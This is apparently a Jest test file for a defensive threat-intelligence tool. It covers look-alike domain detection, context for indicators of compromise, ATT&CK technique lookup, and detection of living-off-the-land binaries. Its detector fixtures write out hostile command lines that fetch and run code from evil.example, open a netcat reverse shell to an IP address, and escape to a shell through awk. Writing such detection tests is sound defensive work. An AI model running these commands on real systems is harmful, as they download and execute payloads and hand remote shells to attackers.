import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { IndicatorType } from '../../analysis/ioc/types.js';
import { attackFacts } from './attack.js';
import { TACTICS, TECHNIQUES } from './attack-techniques.js';
import { contextOf } from './context.js';
import { livingOffTheLand, livingOffText } from './living-off-the-land.js';
import { distanceOf, lookAlike, skeletonOf } from './look-alike.js';

const NOW = '2026-02-01T00:00:00Z';
const OWN = ['contoso.com', 'bank.co.uk', 'ibm.com', 'larkfield-hospital.example'];

describe('look-alikes', () => {
  it.each<readonly [domain: string, wanted: string | undefined]>([
    ['contoso.com', 'same contoso.com'], ['mail.contoso.com', 'same contoso.com'], ['CONTOSO.COM.', 'same contoso.com'], ['notcontoso.com', undefined],
    ['contos0.com', 'homoglyphs contoso.com'], ['c0nt0s0.net', 'homoglyphs contoso.com'], ['соntоsо.com', 'homoglyphs contoso.com'], ['xn--ntos-4ced93f.com', undefined],
    ['xn--contso-r4a.com', undefined], ['cöntösö.com', 'homoglyphs contoso.com'], ['contoso.net', 'ending contoso.com'], ['contoso.co', 'ending contoso.com'],
    ['contosso.com', 'spelling contoso.com'], ['cnotoso.com', 'spelling contoso.com'], ['contaso.org', 'spelling contoso.com'], ['contsoo.io', 'spelling contoso.com'],
    ['cantaso.com', undefined], ['contoso.com.evil.net', 'prefix contoso.com'], ['login.contoso.com.evil.net', 'prefix contoso.com'], ['contoso-login.com', 'inside contoso.com'],
    ['secure-contos0.net', 'inside contoso.com'], ['contosologin.com', undefined], ['bank.com', 'ending bank.co.uk'], ['bnak.com', undefined], ['ibm.net', undefined], ['1bm.com', 'homoglyphs ibm.com'], ['ibn.com', undefined],
    ['larkfield-hospita1.example', 'homoglyphs larkfield-hospital.example'], ['larkfeild-hospitals.net', 'spelling larkfield-hospital.example'], ['example.org', undefined], ['com', undefined], ['', undefined], ['-', undefined],
  ])('%s', (domain, wanted) => {
    const like = lookAlike(domain, OWN);
    expect(like === undefined ? undefined : `${like.kind} ${like.own}`).toBe(wanted);
  });

  it('reads punycode as people see it', () => {
    const domain = new URL('http://соntoso.com').hostname; // the first letters are Cyrillic
    expect(domain).toMatch(/^xn--/);
    expect(lookAlike(domain, OWN)).toMatchObject({ kind: 'homoglyphs', own: 'contoso.com' });
  });

  it.each<readonly [string, string, number]>([['', '', 0], ['', 'abc', 3], ['abc', 'abc', 0], ['kitten', 'sitting', 3], ['ab', 'ba', 1], ['ca', 'abc', 3], ['contoso', 'cnotoso', 1]])('distance of %j and %j', (a, b, wanted) => {
    expect([distanceOf(a, b), distanceOf(b, a)]).toEqual([wanted, wanted]);
  });

  it('has a skeleton that is its own skeleton, and bounded work', () => {
    fc.assert(fc.property(fc.string({ maxLength: 70, unit: 'binary' }), (name) => {
      lookAlike(`${name}.com`, OWN);
      expect(distanceOf(name, name)).toBe(0);
    }), { numRuns: 300 });
    expect(skeletonOf('rnicrosoft')).toBe(skeletonOf('microsoft'));
    lookAlike('a.'.repeat(100_000), OWN);
  });
});

describe('context of an observable', () => {
  const said = (type: IndicatorType, value: string) => contextOf({ type, value }, { ownDomains: OWN, now: NOW }).map(({ provider, opinion = '-', details }) => `${provider} ${opinion} ${details}`);
  it.each<readonly [type: IndicatorType, value: string, wanted: readonly string[]]>([
    ['domain', 'a.b.evil.co.uk', ['public-suffix - registered domain evil.co.uk, ending co.uk; host a.b']],
    ['domain', 'evil.github.io', ['public-suffix - registered domain evil.github.io, ending github.io; an ending where anyone can register']],
    ['domain', 'co.uk', ['public-suffix - an ending, not a registered domain']],
    ['domain', 'xn--bcher-kva.de', ['public-suffix - registered domain xn--bcher-kva.de, ending de; reads bücher.de']],
    ['domain', 'evil.example', ['public-suffix - registered domain evil.example, ending example; an ending that is not in the public suffix list']],
    ['domain', 'mail.contoso.com', ['look-alike - below the organisation’s own domain contoso.com', 'public-suffix - registered domain contoso.com, ending com; host mail']],
    ['email', 'ana@contos0.com', ['look-alike suspicious letters that look like those of contoso.com']],
    ['url', 'https://contosso.com/login', ['look-alike suspicious one letter differs from contoso.com']],
    ['url', 'https://198.51.100.7/', []], ['url', 'http://[2001:db8::1]/', []], ['url', 'no url', []],
    ['md5', 'd41d8cd98f00b204e9800998ecf8427e', ['hash-form benign the hash of empty content']],
    ['sha256', 'a'.repeat(64), ['hash-form - SHA-256 by its length']],
    ['attack', 'T1059.001', ['attack - Command and Scripting Interpreter: PowerShell (Execution)']], ['attack', 'TA0040', ['attack - Impact (Impact)']], ['attack', 'T9999', []],
    ['ipv4', '198.51.100.7', []], ['guid', 'x', []],
  ])('%s %s', (type, value, wanted) => {
    expect(said(type, value)).toEqual(wanted);
  });
});

describe('ATT&CK', () => {
  it('has each technique once, with tactics and a page', () => {
    const lines = TECHNIQUES.trim().split('\n');
    // Counts of ATT&CK v18: https://attack.mitre.org/resources/updates/updates-october-2025/
    expect([lines.length, lines.reduce((sum, line) => sum + line.split(';').length - 1, 0)]).toEqual([216, 475]);
    const ids = lines.map((line) => line.slice(0, 5));
    expect(new Set(ids).size).toBe(ids.length);
    for (const id of ids) {
      expect(attackFacts(id)?.tactics.length).toBeGreaterThan(0);
      expect(attackFacts(id)?.url).toBe(`https://attack.mitre.org/techniques/${id}/`);
    }
    expect(Object.values(TACTICS).map(([id]) => attackFacts(id)?.id)).toEqual(Object.values(TACTICS).map(([id]) => id));
    expect(attackFacts('t1003.008')).toEqual({ id: 'T1003.008', name: 'OS Credential Dumping: /etc/passwd and /etc/shadow', tactics: ['Credential Access'], url: 'https://attack.mitre.org/techniques/T1003/008/' });
  });
});

describe('living off the land', () => {
  it.each<readonly [commandLine: string, wanted: readonly string[]]>([
    ['certutil -urlcache -f http://evil.example/a a.exe', ['certutil.exe']], ['C:\\Windows\\System32\\CertUtil.exe -decode a b', ['certutil.exe']],
    ['"C:\\Program Files\\x\\rundll32.exe" a.dll,#1', ['rundll32.exe']], ['cmd /c "mshta http://evil.example"', ['cmd.exe', 'mshta.exe']], ['cmd.exe /c bitsadmin /transfer x', ['cmd.exe', 'bitsadmin.exe']],
    ['c^md.exe /c who^ami', ['cmd.exe', 'whoami.exe']], ['powershell -enc AAAA | findstr x', ['powershell.exe', 'findstr.exe']],
    ['curl -s http://evil.example/x | bash', ['curl', 'bash']], ['sudo awk \'BEGIN {system("/bin/sh")}\'', ['awk', 'sh']], ['/usr/bin/python3 -c "import os"', ['python3']], ['a; nc -e /bin/sh 198.51.100.7 4444', ['nc']],
    ['echo $(wget -qO- evil.example)', ['wget']],
    ['please find the report at home', []], ['the cat sat at the control panel', []], ['notepad.exe a.txt', []], ['', []], ['update: the net result', []],
  ])('%s', (commandLine, wanted) => {
    expect(livingOffTheLand(commandLine).map(({ program }) => program)).toEqual(wanted);
  });

  it('names the techniques, and is bounded', () => {
    expect(livingOffTheLand('regsvr32 /s /i:http://evil.example/a.sct scrobj.dll').map(livingOffText)).toEqual(['regsvr32.exe: T1218.010 System Binary Proxy Execution: Regsvr32']);
    expect(livingOffTheLand('certutil.exe | cmd.exe | mshta.exe | '.repeat(100_000))).toHaveLength(3);
    for (const part of ['|', '"', 'a'.repeat(5_000), 'sudo ', '/c ', '\\', '^']) livingOffTheLand(part.repeat(Math.ceil(2_000_000 / part.length)));
    for (const { techniques } of livingOffTheLand('wmic | reg | sc | schtasks | at | wsl | netsh | forfiles | esentutl.exe')) {
      for (const id of techniques) expect(attackFacts(id)).toBeDefined();
    }
  });
});
